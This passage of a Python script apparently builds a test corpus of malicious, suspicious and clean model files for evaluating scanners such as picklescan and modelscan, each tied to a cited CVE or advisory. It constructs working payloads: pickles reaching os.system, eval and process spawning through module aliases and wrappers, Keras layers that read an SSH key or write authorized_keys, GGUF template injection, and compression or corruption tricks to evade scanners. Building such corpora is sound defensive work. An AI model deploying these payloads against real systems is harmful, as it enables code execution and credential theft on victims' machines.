         "torch.distributed.TCPStore connects out", "picklescan GHSA-mjqp-26hc-grxg / modelscan torch.distributed"),
        ("d2_torch_fx_reduce_graph_module.pt", call("torch.fx.graph_module", "reduce_graph_module",
                                                    {"_code": "import os\nos.system('%s')\n" % CMD}, "import os"), 2, "malicious",
         "torch.fx.graph_module.reduce_graph_module execs the pickled code", "picklescan GHSA-jgw4-cr84-mqxg"),
        ("d2_pandas_pickle_compat.pkl", call("pandas.compat.pickle_compat", "loads", inner), 2, "malicious",
         "pandas.compat.pickle_compat.loads of an inner os.system pickle", "picklescan GHSA-84r2-jw7c-4r5q (nested pickle)"),
        ("d2_codecs_open.pkl", call("codecs", "open", "/tmp/aihost-pwned", "w"), 2, "malicious", "codecs.open(path, 'w') truncates a file",
         "CVE-2025-10155 family (file writes), fickling PR #210"),
        ("d2_io_fileio.pkl", call("_io", "FileIO", "/tmp/aihost-pwned", "w"), 2, "malicious", "_io.FileIO(path, 'w')",
         "CVE-2025-10155 (picklescan, JFrog)"),
        ("d2_distutils_write_file.pkl", call("distutils.file_util", "write_file", "/tmp/aihost-pwned", ["x"]), 2, "malicious",
         "distutils.file_util.write_file", "CVE-2025-10155 / fickling PR #210"),
        ("d2_argparse_os_alias.pkl", call("argparse", "_os.system", CMD), 4, "malicious",
         "argparse._os.system: os reached through another module's alias (dotted name, protocol 4)",
         "picklescan GHSA-m273-6v24-x4m4 family (module aliases)"),
        ("d2_argparse_posix_spawnp.pkl", call("argparse", "_os.posix_spawnp", "id", ["id"], {}), 4, "malicious",
         "argparse._os.posix_spawnp", "picklescan module-alias advisories"),
        ("d2_asyncio_unix_events_os.pkl", call("asyncio.unix_events", "os.system", CMD), 4, "malicious",
         "asyncio.unix_events.os.system", "CVE-2025-10157 (picklescan submodule/alias bypass)"),
        ("d2_asyncio_subprocess_transport.pkl", call("asyncio.unix_events", "_UnixSubprocessTransport._start", None, CMD, True,
                                                     None, None, None, 0), 4, "malicious",
         "asyncio.unix_events._UnixSubprocessTransport._start spawns a process", "CVE-2025-10157 (JFrog)"),
        ("d2_pydoc_pipepager.pkl", call("pydoc", "pipepager", "x", CMD), 2, "malicious", "pydoc.pipepager runs a shell command",
         "picklescan GHSA-4675-36f9-wf6r family"),
        ("d2_bdb_run.pkl", call("bdb", "Bdb.run", call("bdb", "Bdb"), code), 4, "malicious", "bdb.Bdb.run(Bdb(), code) executes code",
         "picklescan GHSA-46h3-79wf-xr6c (bdb/pdb)"),
        ("d2_cprofile_run.pkl", call("cProfile", "run", code), 2, "malicious", "cProfile.run(code)", "picklescan GHSA-4675-36f9-wf6r (profile)"),
        ("d2_profile_run.pkl", call("profile", "run", code), 2, "malicious", "profile.run(code)", "picklescan GHSA-4675-36f9-wf6r"),
        ("d2_trace_runctx.pkl", call("trace", "Trace.runctx", call("trace", "Trace"), code, {}, {}), 4, "malicious",
         "trace.Trace.runctx", "fickling PR #210 (trace)"),
        ("d2_timeit.pkl", call("timeit", "timeit", code, "pass", G("time", "perf_counter"), 1), 2, "malicious",
         "timeit.timeit(stmt) compiles and runs stmt", "picklescan GHSA-4675-36f9-wf6r (timeit)"),
        ("d2_doctest_debug_script.pkl", call("doctest", "debug_script", code), 2, "malicious", "doctest.debug_script execs",
         "fickling PR #210 (doctest)"),
        ("d2_ctypes_cdll.pkl", call("ctypes", "CDLL", "/tmp/aihost-evil.so"), 2, "malicious", "ctypes.CDLL loads a shared object",
         "modelscan/picklescan deny lists lack ctypes"),
        ("d2_posixsubprocess_fork_exec.pkl", call("_posixsubprocess", "fork_exec", ["id"], [b"/usr/bin/id"], True, (), None, None,
                                                  -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None, False),
         2, "malicious", "_posixsubprocess.fork_exec (what subprocess uses underneath)", "picklescan GHSA-x843-g5mx-g377 family"),
        ("d2_methodcaller_chain.pkl", Call(call("operator", "methodcaller", "system", CMD), call("importlib", "import_module", "os")), 2,
         "malicious", "operator.methodcaller('system', cmd)(importlib.import_module('os'))", "picklescan GHSA-955r-x9j8-7rhh"),
        ("d2_attrgetter_chain.pkl", Call(Call(call("_operator", "attrgetter", "system"), call("importlib", "import_module", "os")), CMD),
         4, "malicious", "_operator.attrgetter('system')(import_module('os'))(cmd)", "picklescan GHSA-m273-6v24-x4m4"),
        ("d2_functools_partial.pkl", Call(call("functools", "partial", G("os", "system"), CMD)), 2, "malicious",
         "functools.partial(os.system, cmd)()", "fickling PR #210 (functools.partial wrapper)"),
        ("d2_numpy_load_pickle.pkl", call("numpy", "load", "/tmp/aihost-dropped.npy", None, True), 2, "malicious",
         "numpy.load(path, allow_pickle=True) of a file dropped elsewhere", "picklescan GHSA-cffc-mxrf-mhh4 family"),
        ("d2_torch_load_nested.pt", call("torch", "load", "/tmp/aihost-dropped.pt", None, G("torch.serialization", "pickle")), 2,
         "malicious", "torch.load(path, None, pickle): weights_only off because a pickle_module is given",
         "picklescan GHSA-cffc-mxrf-mhh4 family (nested torch.load)"),
        ("d2_shutil_copyfile.pkl", call("shutil", "copyfile", "/etc/hostname", "/tmp/aihost-pwned"), 2, "malicious",
         "shutil.copyfile writes a file", "CVE-2025-10155 / fickling PR #210 (shutil)"),
        ("d2_shutil_rmtree.pkl", call("shutil", "rmtree", "/tmp/aihost-does-not-exist"), 4, "malicious", "shutil.rmtree",
         "picklescan shutil advisories"),
        ("d2_webbrowser_open.pkl", call("webbrowser", "open_new", "http://127.0.0.1:9/"), 2, "malicious", "webbrowser.open_new",
         "modelscan deny list (webbrowser)"),
        ("d2_urllib_urlopen.pkl", call("urllib.request", "urlopen", "http://127.0.0.1:9/"), 2, "malicious",
         "urllib.request.urlopen (network)", "picklescan GHSA-hgrh-qx5j-jfwx (network modules)"),
        ("d2_httplib_connection.pkl", call("http.client", "HTTPConnection", "127.0.0.1", 9), 2, "malicious",
         "http.client.HTTPConnection (httplib)", "picklescan GHSA-hgrh-qx5j-jfwx"),
        ("d2_socket_create_connection.pkl", call("socket", "create_connection", ("127.0.0.1", 9)), 4, "malicious",
         "socket.create_connection", "modelscan/picklescan network deny lists"),
        ("d2_runpy_run_code.pkl", call("runpy", "_run_code", code, {}), 2, "malicious", "runpy._run_code (private name)",
         "picklescan GHSA-3329-ghmp-jmv5 family"),
        ("d2_importlib_import_module.pkl", call("importlib", "import_module", "os"), 2, "malicious",
         "importlib.import_module", "picklescan importlib advisories"),
        ("d2_pip_internal_main.pkl", call("pip._internal.cli.main", "main", ["install", "--index-url", "http://127.0.0.1:9/", "x"]), 4,
         "malicious", "pip._internal.cli.main.main", "CVE-2025-1716 (pip.main bypass)"),
        ("d2_code_interactive_runsource.pkl", call("code", "InteractiveInterpreter.runsource", call("code", "InteractiveInterpreter"), code),
         4, "malicious", "code.InteractiveInterpreter.runsource", "picklescan GHSA-r8g5-cgf2-4m4m family"),
        ("d2_idlelib_runcode.pkl", call("idlelib.pyshell", "ModifiedInterpreter.runcode", None, code), 4, "malicious",
         "idlelib.pyshell.ModifiedInterpreter.runcode", "picklescan GHSA-r8g5-cgf2-4m4m (idlelib)"),
        ("d2_numpy_f2py_eval.pkl", call("numpy.f2py.crackfortran", "_eval_length", "__import__('os').system('%s')" % CMD, {}), 2,
         "malicious", "numpy.f2py.crackfortran._eval_length evals its argument", "fickling PR #210 (numpy.f2py)"),
        ("d2_ensurepip_run_pip.pkl", call("ensurepip", "_run_pip", ["install", "x"]), 2, "malicious", "ensurepip._run_pip",
         "picklescan GHSA-vqmv-47xg-9wpr"),
    ]
    for name, expr, proto, expect, note, source in cases:
        first = _first_global(expr)
        _sample(samples, name, dumps(expr, proto), expect, note, cls, source, reaches="%s.%s" % (first.module, first.name))
    # copyreg.add_extension registers ('os', 'system') under code 0x7A; EXT1 then loads it.
    ext = (b"\x80\x02" + ops(call("copyreg", "add_extension", "os", "system", 0x7A), 2) + b"0"
           + b"\x82\x7a" + b"(" + _value(CMD, 2) + b"tR.")
    _sample(samples, "d2_copyreg_ext.pkl", ext, "malicious", "copyreg.add_extension + EXT1: os.system without a GLOBAL naming it",
            cls, "fickling issue (EXT opcodes) / picklescan GHSA-rrxm-2pvv-m66x family")
    _sample(samples, "d2_unknown_class.pkl", dumps(Call(G("acme_models.layers", "CustomBlock")), 2), "suspicious",
            "instantiates a class from an unknown third-party module", cls,
            "modelscan/picklescan: unknown globals are 'suspicious'")
    _sample(samples, "d2_unknown_torch_module.pt", torch_zip(_unknown_torch_obj()), "suspicious",
            "torch state dict with an object of an unknown package's class", cls, "picklescan 'suspicious' globals")


def _unknown_torch_obj():
    """A state dict entry holding an instance of a class from a package nobody vetted (stand-in module)."""
    spec = {"hf_community.modeling_custom": {"CustomConfig": type("CustomConfig", (object,), {})}}
    with stand_in_modules(spec):
        instance = sys.modules["hf_community.modeling_custom"].CustomConfig()
        return torch_state_dict_pickle(extra=instance)


# ---------------------------------------------------------------------------------------------
# Class 3: text search
# ---------------------------------------------------------------------------------------------
def _class3(samples):
    cls = "3-text-search"
    lam = _keras_layer("keras.layers", "Lambda", {"name": "lambda", "function": {
        "class_name": "__lambda__", "config": {"code": _marshalled_lambda(), "defaults": None, "closure": None}},
        "output_shape": None, "arguments": {}})
    model, meta = keras_v3([lam])
    _sample(samples, "t3_keras_lambda.keras", keras_zip(model, meta), "malicious", "Keras 3 Lambda layer with a marshalled function",
            cls, "CVE-2024-3660 (JFrog keras safe_mode write-up)")
    _sample(samples, "t3_keras_lambda_escaped.keras",
            keras_zip(model, meta, {'"Lambda"': '"\\u004cambda"', '"__lambda__"': '"\\u005f\\u005flambda\\u005f\\u005f"'}),
            "malicious", "Lambda and __lambda__ written with JSON \\u escapes", cls, "JFrog keras safe_mode bypass write-up")
    osl = _keras_layer("os", "system", {"name": "payload"}, inbound_nodes=[{"args": [CMD], "kwargs": {}}])
    model, meta = keras_v3([osl], functional=True)
    _sample(samples, "t3_keras_module_os.keras", keras_zip(model, meta), "malicious",
            '"module": "os", "class_name": "system" called with attacker arguments', cls, "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp, huntr)")
    _sample(samples, "t3_keras_module_escaped.keras",
            keras_zip(model, meta, {'"module": "os"': '"module": "\\u006fs"', '"system"': '"\\u0073ystem"'}),
            "malicious", "the same with \\u escapes in module and class names", cls, "CVE-2025-1550")
    sub = _keras_layer("subprocess", "Popen", {"args": ["id"]}, inbound_nodes=[])
    model, meta = keras_v3([sub], functional=True)
    _sample(samples, "t3_keras_module_subprocess.keras", keras_zip(model, meta), "malicious", '"module": "subprocess"', cls,
            "CVE-2025-1550")
    lookup = _keras_layer("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/root/.ssh/id_rsa",
                                                           "max_tokens": None, "num_oov_indices": 1, "output_mode": "int"})
    model, meta = keras_v3([lookup])
    _sample(samples, "t3_keras_stringlookup_file.keras", keras_zip(model, meta), "malicious",
            "StringLookup vocabulary read from a local file path (root-only key into the model)", cls,
            "CVE-2025-12058 (Keras StringLookup/IntegerLookup file read), CVE-2025-8747 family")
    lookup = _keras_layer("keras.layers", "IntegerLookup", {"name": "lookup", "vocabulary": "http://127.0.0.1:9/vocab.txt",
                                                            "max_tokens": None, "num_oov_indices": 1, "output_mode": "int"})
    model, meta = keras_v3([lookup])
    _sample(samples, "t3_keras_integerlookup_url.keras", keras_zip(model, meta), "malicious",
            "IntegerLookup vocabulary fetched from a URL (tf.io.gfile: network on load)", cls, "CVE-2025-12058 (SSRF)")
    fetch = _keras_layer("keras.utils", "get_file", {"fname": "authorized_keys", "origin": "http://127.0.0.1:9/k",
                                                     "cache_dir": "/root", "cache_subdir": ".ssh", "extract": False})
    model, meta = keras_v3([fetch])
    _sample(samples, "t3_keras_get_file.keras", keras_zip(model, meta), "malicious",
            "keras.utils.get_file as a 'layer': downloads and writes a file on load", cls,
            "CVE-2025-8747 (GHSA-c9rc-mg46-23w3, JFrog)")
    _sample(samples, "t3_keras_get_file_escaped.keras",
            keras_zip(model, meta, {'"get_file"': '"\\u0067et_file"', '"keras.utils"': '"keras\\u002eutils"'}), "malicious",
            "get_file with \\u escapes", cls, "CVE-2025-8747")
    _sample(samples, "t3_legacy_lambda.h5", h5_lambda("plain"), "malicious", "legacy Keras HDF5 with a Lambda layer in model_config",
            cls, "CVE-2025-9905 (Keras .h5 Lambda in safe_mode)")
    _sample(samples, "t3_legacy_lambda_escaped.h5", h5_lambda("escaped"), "malicious", "legacy HDF5, Lambda written as \\u004cambda",
            cls, "CVE-2025-9905")
    for name, template, note in SSTI_TEMPLATES:
        _sample(samples, "t3_ssti_%s.gguf" % name, gguf(chat_template=template), "malicious", "GGUF chat template: " + note, cls,
                "CVE-2024-34359 (llama-cpp-python Jinja SSTI), GHSA-56xg-wfcc-g829")


# ---------------------------------------------------------------------------------------------
# Class 4: crashes
# ---------------------------------------------------------------------------------------------
def _class4(samples):
    cls = "4-crash"
    # the pickle, then 4 MiB of zeros (a few hundred bytes compressed), so that a streaming reader
    # (joblib buffers 1 MiB) hands the whole pickle over before the decoder meets the corrupt tail
    evil = dumps(call("os", "system", CMD), 2) + b"\x00" * (4 << 20)
    xz = bytearray(lzma.compress(evil, format=lzma.FORMAT_XZ))
    xz[-64:] = b"\xff" * 64
    _sample(samples, "c4_xz_corrupt_tail.joblib", bytes(xz), "malicious",
            "xz-compressed os.system pickle with a corrupt index/footer (streaming readers get the pickle first)", cls,
            "fickling issue (compressed joblib robustness), joblib xz compressor")
    zl = zlib.compress(evil)[:-6]
    _sample(samples, "c4_zlib_truncated.joblib", zl, "malicious", "zlib joblib stream cut before its end", cls,
            "joblib zlib compressor; decompressobj yields the pickle before the error")
    members = _torch_members(torch_state_dict_pickle(extra=call_obj_reducer()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in members:
            archive.writestr(name, data, zipfile.ZIP_DEFLATED if name.endswith("data/0") else zipfile.ZIP_STORED)
    data = bytearray(buf.getvalue())
    start = _zip_member_data_offset(bytes(data), "archive/data/0")
    data[start:start + 8] = b"\xff" * 8
    _sample(samples, "c4_torch_corrupt_deflate_sibling.pt", bytes(data), "malicious",
            "torch zip: data/0 has a corrupt deflate stream; data.pkl (a sibling) calls os.system", cls,
            "modelscan/picklescan abort a whole archive on one bad member (CVE-2025-10156 family)")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, content in members:
            archive.writestr(name, content, zipfile.ZIP_LZMA if name.endswith("data/1") else zipfile.ZIP_STORED)
    data = bytearray(buf.getvalue())
    start = _zip_member_data_offset(bytes(data), "archive/data/1")
    data[start + 4:start + 12] = b"\xff" * 8
    _sample(samples, "c4_torch_corrupt_lzma_sibling.pt", bytes(data), "malicious",
            "torch zip: data/1 is a corrupt LZMA member next to an os.system data.pkl", cls, "CVE-2025-10156 family")
    header = json.dumps({"w": {"dtype": ["F32"], "shape": [1], "data_offsets": [0, 4]}}).encode()
    _sample(samples, "c4_safetensors_dtype_list.safetensors", struct.pack("<Q", len(header)) + header + b"\x00" * 4, "suspicious",
            "safetensors header with a list where the dtype string belongs", cls, "modelscan safetensors parsing crash reports")
    nested = ('{"__metadata__": {"x": ' + "[" * 5000 + "]" * 5000 + '}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}')
    nested_raw = nested.encode()
    _sample(samples, "c4_safetensors_nested_5000.safetensors", struct.pack("<Q", len(nested_raw)) + nested_raw + b"\x00" * 4,
            "suspicious", "safetensors header JSON nested 5000 levels (RecursionError in json)", cls, "safetensors header limits")
    small = safetensors()
    _sample(samples, "c4_safetensors_header_len_huge.safetensors", struct.pack("<Q", 200 * 1024 * 1024) + small[8:], "suspicious",
            "safetensors header length 200 MiB in a 100-byte file", cls, "safetensors: header larger than the file / over 100 MB")
    _sample(samples, "c4_safetensors_header_len_2_63.safetensors", struct.pack("<Q", 2 ** 63 + 8) + small[8:], "suspicious",
            "safetensors header length 2**63+8", cls, "safetensors header length overflow")
    _sample(samples, "c4_truncated_benign.pkl", pickle.dumps({"weights": list(range(50))}, protocol=2)[:40], "suspicious",
            "benign pickle cut in the middle of a list", cls, "fickling issue (truncated pickles)")
    _sample(samples, "c4_truncated_after_reduce_p4.pkl", (b"\x80\x04" + _frame(ops(call("os", "system", CMD), 4) + b"(K\x01"))[:-1],
            "malicious", "protocol 4 FRAME: os.system REDUCE complete, stream cut inside the next frame", cls,
            "fickling issue (truncated pickles), picklescan parse errors")
    _sample(samples, "c4_frame_length_lies.pkl", b"\x80\x04\x95" + struct.pack("<Q", 2 ** 40) + ops(call("os", "system", CMD), 4) + b".",
            "malicious", "FRAME claims 2**40 bytes; the os.system call follows in full", cls, "picklescan GHSA-9gvj-pp9x-gcfr")
    absurd = b"GGUF" + struct.pack("<IQQ", 3, 2 ** 63, 2 ** 62)
    _sample(samples, "c4_gguf_absurd_counts.gguf", absurd + b"\x00" * 64, "suspicious", "GGUF tensor count 2**63, KV count 2**62",
            cls, "llama.cpp GGUF parser overflow reports (GHSA-8947-pfff-2f3c family)")
    key = b"tokenizer.chat_template"
    big_string = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, 2 ** 62) + b"{{ x }}"
    _sample(samples, "c4_gguf_string_len_huge.gguf", big_string, "suspicious", "GGUF string value claiming 2**62 bytes", cls,
            "llama.cpp GGUF parser overflow reports")
    arr = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 21) + b"tokenizer.ggml.tokens" + struct.pack("<IIQ", 9, 8, 2 ** 61)
    _sample(samples, "c4_gguf_array_count_huge.gguf", arr + b"\x00" * 32, "suspicious", "GGUF array of 2**61 strings", cls,
            "llama.cpp GGUF parser overflow reports")


# ---------------------------------------------------------------------------------------------
# Class 5: compression the standard library cannot open
# ---------------------------------------------------------------------------------------------
def _class5(samples):
    cls = "5-compression"
    evil = dumps(call("os", "system", CMD), 2)
    evil_joblib = joblib_pickle(extra=call_obj_reducer())
    _sample(samples, "z5_lz4_stored.joblib", lz4_frame(evil_joblib), "malicious",
            "joblib compress='lz4': LZ4 frame, blocks stored (payload readable)", cls, "joblib lz4 compressor; modelscan/picklescan skip LZ4")
    hidden = b"(Vposix\nVsystem\nl0cposix\nsystem\n(V" + CMD.encode() + b"\ntR."
    _sample(samples, "z5_lz4_compressed.joblib", lz4_frame(hidden, compress=True), "suspicious",
            "LZ4 frame with a compressed block: 'posix\\nsystem' only exists after decompression", cls, "joblib lz4 compressor")
    _sample(samples, "z5_7z_stored.7z", sevenzip_stored("model.pkl", evil), "malicious", "7z archive, Copy coder, holding an os.system pickle",
            cls, "picklescan 7z support (CVE-2025-1889 family), fickling polyglot 7z")
    _sample(samples, "z5_7z_stored_pt.pt", sevenzip_stored("archive/data.pkl", evil), "malicious",
            "the same 7z under a .pt name", cls, "fickling polyglot (7z)")
    _sample(samples, "z5_zstd_raw.pkl", zstd_frame(evil), "malicious", "zstd frame with a raw block (pandas.read_pickle(compression='zstd'))",
            cls, "pandas compression=zstd; scanners without zstd")
    _sample(samples, "z5_zstd_two_blocks.pkl", zstd_frame(evil, split=8), "suspicious",
            "zstd frame of two raw blocks split inside 'system': the name is not contiguous on disk", cls, "zstd format (RFC 8878)")


# ---------------------------------------------------------------------------------------------
# Class 6: real benign, and baseline
# ---------------------------------------------------------------------------------------------
def real_files():
    return sorted(name for name in os.listdir(REAL_DIR) if not name.endswith((".py", ".md")))


def _class6(samples):
    cls = "6-real-benign"
    for name in real_files():
        with open(os.path.join(REAL_DIR, name), "rb") as handle:
            data = handle.read()
        _sample(samples, "r6_" + name, data, "clean", "real library output: " + name, cls, REAL_MADE_WITH)
    _sample(samples, "r6_pytorch_model.bin", torch_zip(torch_state_dict_pickle(protocol=2), name="pytorch_model"), "clean",
            "torch.save zip layout (HF pytorch_model.bin), stand-in globals", cls, "model_corpus stand-ins of torch 2.x torch.save")
    _sample(samples, "r6_legacy_checkpoint.pt", torch_legacy(torch_state_dict_pickle(protocol=2)), "clean",
            "legacy torch.save sequence, stand-in globals", cls, "model_corpus stand-ins of torch < 1.6 torch.save")
    tensors = {"model.embed_tokens.weight": ("F16", [4, 2], struct.pack("<8e", *range(8))),
               "model.norm.weight": ("BF16", [2], b"\x80\x3f\x80\x3f"), "lm_head.weight": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4))}
    _sample(samples, "r6_model.safetensors", safetensors(tensors, {"format": "pt"}), "clean", "safetensors, F16/BF16/F32",
            cls, "safetensors format spec (HF)")
    _sample(samples, "r6_adapter_model.safetensors", safetensors(None, {"format": "pt", "peft_type": "LORA"}), "clean",
            "safetensors with metadata", cls, "safetensors format spec (HF)")
    for name, template in sorted(TEMPLATES.items()):
        _sample(samples, "r6_%s.gguf" % name, gguf(chat_template=template), "clean", "GGUF with the %s chat template" % name, cls,
                "public chat_template of %s (tokenizer_config.json)" % name)


def _baseline(samples):
    cls = "baseline"
    _sample(samples, "b0_os_system_p2.pkl", dumps(call("os", "system", CMD), 2), "malicious", "os.system via REDUCE", cls,
            "classic (picklescan/modelscan test suites)", reaches="os.system")
    _sample(samples, "b0_builtins_eval_p4.pkl", dumps(call("builtins", "eval", "__import__('os').system('id')"), 4), "malicious",
            "builtins.eval", cls, "classic", reaches="builtins.eval")
    _sample(samples, "b0_builtins_exec_p0.pkl", dumps(call("builtins", "exec", "import os"), 0), "malicious", "builtins.exec, protocol 0",
            cls, "classic", reaches="builtins.exec")
    _sample(samples, "b0_subprocess_popen_p5.pkl", dumps(call("subprocess", "Popen", ["id"]), 5), "malicious", "subprocess.Popen", cls,
            "classic", reaches="subprocess.Popen")
    _sample(samples, "b0_plain_dict.pkl", pickle.dumps({"lr": 0.001, "layers": [64, 64]}, protocol=4), "clean", "dict of plain values",
            cls, "classic")


def build_bypass_corpus():
    samples = []
    _baseline(samples)
    _class1(samples)
    _class2(samples)
    _class3(samples)
    _class4(samples)
    _class5(samples)
    _class6(samples)
    for sample in samples:
        if getattr(sample, "reaches", None) and not hasattr(sample, "stream"):
            sample.stream = sample.data
    names = [s.name for s in samples]
    if len(names) != len(set(names)):
        raise ValueError("duplicate sample names")
    return samples


def write_bypass_corpus(directory):
    return write_samples(directory, build_bypass_corpus())


if __name__ == "__main__":
    for item in write_bypass_corpus(sys.argv[1] if len(sys.argv) > 1 else "bypass-corpus"):
        print("%-44s %-15s %-10s %s" % (item.name, item.cls, item.expect, item.source))
